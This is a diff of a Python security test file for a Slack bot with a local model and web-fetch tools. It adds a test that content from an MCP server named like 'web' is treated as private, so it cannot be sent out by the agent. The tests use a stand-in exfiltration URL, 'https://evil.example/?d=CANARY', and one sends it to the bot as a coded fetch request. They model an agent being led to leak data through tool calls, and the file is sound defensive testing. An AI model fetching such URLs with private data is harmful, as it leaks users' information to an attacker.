@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import json
 import re
+from dataclasses import replace
 from functools import partial
 from typing import Any
 
@@ -15,11 +16,14 @@ import pytest
 
 from bot.local.model import ModelRequest, Reply, call, finish
 from bot.local.workspace import ADA
+from bot.runs.outgoing import Outgoing
 from bot.slack.render.buttons import APPROVE
-from bot.toolkit import Fetcher, Page
+from bot.toolkit import Fetcher, Page, ToolResult
 from tests.security.model import filled, question
 from tests.support.deployment import Deployment, deployed
+from tests.support.redis import asked
 from tests.support.runs import answer
+from tools.web import fetch_page
 
 SALES, DIRECT = "C0SALES001", "D0ADA00001"
 EVIL = "https://evil.example/?d=CANARY"
@@ -151,6 +155,16 @@ async def test_what_was_seen_in_an_image_is_private_too(redis_url: str, fetched:
         root = await bot.ask(ADA, SALES, coded(fetch(EVIL)), files=[("a.png", png)])
         await bot.ws.until(partial(asks, bot, SALES, root), 30)
     assert fetched == []
+
+
+async def test_a_server_called_web_is_not_the_web() -> None:
+    """An operator may call an MCP server as a group of ours is called: what it shows is private."""
+    page, look = fetch_page.tool, replace(fetch_page.tool, name="web__look")
+    outgoing = Outgoing(asked(), lambda: [asked()], ())
+    arguments = page.arguments(url=EVIL)
+    assert not outgoing.may_carry(page, arguments)
+    await outgoing.after_tool(look, arguments, ToolResult("CANARY"))
+    assert outgoing.may_carry(page, arguments)
 
 
 async def test_what_was_given_is_fetched_without_asking(redis_url: str, fetched: list[str]) -> None:
